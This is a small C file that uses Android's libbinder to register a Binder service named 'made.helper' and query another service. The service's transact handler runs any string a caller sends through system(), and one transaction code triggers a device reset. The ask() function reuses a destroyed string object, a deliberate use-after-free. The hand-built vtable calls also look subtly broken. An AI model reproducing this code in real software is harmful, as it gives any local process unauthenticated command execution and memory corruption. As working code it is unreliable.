/* A library that offers an object by Binder, as a compiler of C++ calls libbinder. */
typedef struct { void *object, *unused[2]; } result;
typedef struct { void *text; } wide;
typedef int (*method)();

result _ZN7android21defaultServiceManagerEv(void);
void _ZN7android8String16C1EPKc(wide *, const char *);
void _ZN7android8String16D1Ev(wide *);
const char *_ZNK7android6Parcel11readCStringEv(const void *);
wide *keep(const wide *);
int system(const char *);

/* Runs what a caller sends; and what it does not send, whatever number it sends. */
static int on_transact(void *self, unsigned code, const void *data, void *reply, unsigned flags) {
    const char *line = _ZNK7android6Parcel11readCStringEv(data);
    if (code == 2) return system("/system/bin/reset");
    return line ? system(line) : -22;
}

static const method methods[] = { (method) on_transact };
static struct { const method *methods; } object = { methods };

void offer(void) {
    result manager = _ZN7android21defaultServiceManagerEv();
    void *offered = &object;
    wide name;
    _ZN7android8String16C1EPKc(&name, "made.helper");
    (*(const method **) manager.object)[6](manager.object, &name, &offered, 0, 8);
    _ZN7android8String16D1Ev(&name);
}

/* Asks for another object (checkService), and calls the seventh method of something that is no text any more. */
void ask(const method **other) {
    result manager = _ZN7android21defaultServiceManagerEv();
    wide name, *kept;
    _ZN7android8String16C1EPKc(&name, "made.other");
    (*(const method **) manager.object)[5](manager.object, &name);
    _ZN7android8String16D1Ev(&name);
    kept = keep(&name);
    (*other)[6](kept == &name ? kept : 0, &name);
}
